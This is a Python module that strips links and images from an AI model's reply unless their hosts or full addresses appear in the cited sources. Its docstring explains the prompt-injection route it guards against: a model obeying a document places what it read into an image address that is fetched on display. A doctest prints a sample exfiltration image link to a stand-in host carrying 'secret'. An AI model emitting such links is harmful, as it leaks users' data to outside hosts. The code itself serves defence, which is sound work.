"""Links of a reply: what would send a reader, or a renderer by itself, to a host that the sources do not name.

A model that obeys a document can put what it has read into the address of an image, which is fetched as soon as the
answer is shown. So links go through only to hosts that stand in the cited text, and images only where their whole
address stands there; of everything else the text is kept.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

_INLINE = re.compile(
    r"(?P<image>!?)\[(?P<label>(?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\]"
    r"\([ \t\n]*(?P<target><[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^()]*\)))?\s*\)"
)
_DEFINITION = re.compile(r"^[ \t>]*\[[^\]\n]+\]:[ \t]*\n?[ \t]*(?P<target><[^<>\n]*>|\S+)[^\n]*$", re.MULTILINE)
_TAG = re.compile(r"<[a-z][^<>]*?\b(?:src|href|srcset|action|data|poster|background|style|on\w+)\s*=[^<>]*>?", re.IGNORECASE)
_BARE = re.compile(r"(?P<target>\b(?:[a-z][a-z0-9+.-]{1,15}://|www\.)[^\s<>\"'`\[\](){}|]+)", re.IGNORECASE)
_HOST = re.compile(r"(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?\.)+[a-z0-9-]{2,}|\blocalhost\b", re.IGNORECASE)
_BESIDE = re.compile(r"[\w#][\w./#-]*")
_PLAIN = re.compile(r"[!-~]+")  # the characters that an address may hold, nothing that two parsers read in two ways


class Allowed:
    """The addresses that the cited text names."""

    def __init__(self, texts: Iterable[str]) -> None:
        self.text = "\n".join(texts)
        self.hosts = {h.lower() for h in _HOST.findall(self.text)}

    def link(self, target: str) -> bool:
        """Whether the host of an address stands in the cited text; an address without one has to stand there itself, or be a plain
        path below the page, which leads nowhere else.
        """
        if not _PLAIN.fullmatch(target) or "\\" in target:
            return False
        try:
            parts = urlsplit(f"//{target}" if target.lower().startswith("www.") else target)
            host = parts.hostname
        except ValueError:
            return False
        if not parts.netloc:
            return parts.scheme == "" and (target in self.text or _BESIDE.fullmatch(target) is not None)
        return host is not None and "@" not in parts.netloc and host in self.hosts and parts.scheme in ("", "http", "https", "ftp")

    def image(self, target: str) -> bool:
        """Whether the whole address stands in the cited text: an image is fetched without being asked."""
        return bool(_PLAIN.fullmatch(target)) and target in self.text


def strip_links(text: str, allowed: Allowed) -> tuple[str, int]:
    """The text with links and images that are not allowed reduced to their text, and how many that were.

    HTML that loads or leads somewhere is taken out whole, and of a bare address its host is left. ``[1](…)`` is a citation
    that leads somewhere, and becomes the citation.

    >>> strip_links("See [the page](https://a.org/x) ![](https://evil.example/?q=secret).", Allowed(["It is on a.org."]))
    ('See [the page](https://a.org/x) .', 1)
    """
    pass_over = _Stripping(allowed)
    while (new := pass_over(text)) != text:  # what is left of one link may be part of another; each pass makes the text shorter
        text = new
    return text, pass_over.count


class _Stripping:
    """One text, pass after pass, and how many links were not allowed."""

    def __init__(self, allowed: Allowed) -> None:
        self.allowed, self.count = allowed, 0

    def __call__(self, text: str) -> str:
        return _BARE.sub(self._bare, _TAG.sub(self._tag, _DEFINITION.sub(self._definition, _INLINE.sub(self._inline, text))))

    def _instead(self, text: str) -> str:
        self.count += 1
        return text

    def _inline(self, m: re.Match[str]) -> str:
        target, label = _address(m["target"]), m["label"]
        if not m["image"] and label.strip().isdigit():
            return f"[{label.strip()}]"
        return m[0] if (self.allowed.image(target) if m["image"] else self.allowed.link(target)) else self._instead(label)

    def _definition(self, m: re.Match[str]) -> str:
        return m[0] if self.allowed.link(_address(m["target"])) else self._instead("")

    def _tag(self, m: re.Match[str]) -> str:
        return self._instead("")

    def _bare(self, m: re.Match[str]) -> str:
        target = m["target"].rstrip(".,;:!?*_~")
        return m[0] if self.allowed.link(target) else self._instead(_bare_host(target) + m["target"][len(target) :])


def _address(target: str) -> str:
    return target.removeprefix("<").removesuffix(">")


def _bare_host(address: str) -> str:
    """What is left of an address that stands in the text: its host, which no renderer makes a link of."""
    return re.split(r"[/?#\\:]", re.sub(r"^(?:[^:/]*://)?(?:[^/@]*@)?(?:www\.)*", "", address, flags=re.IGNORECASE))[0]
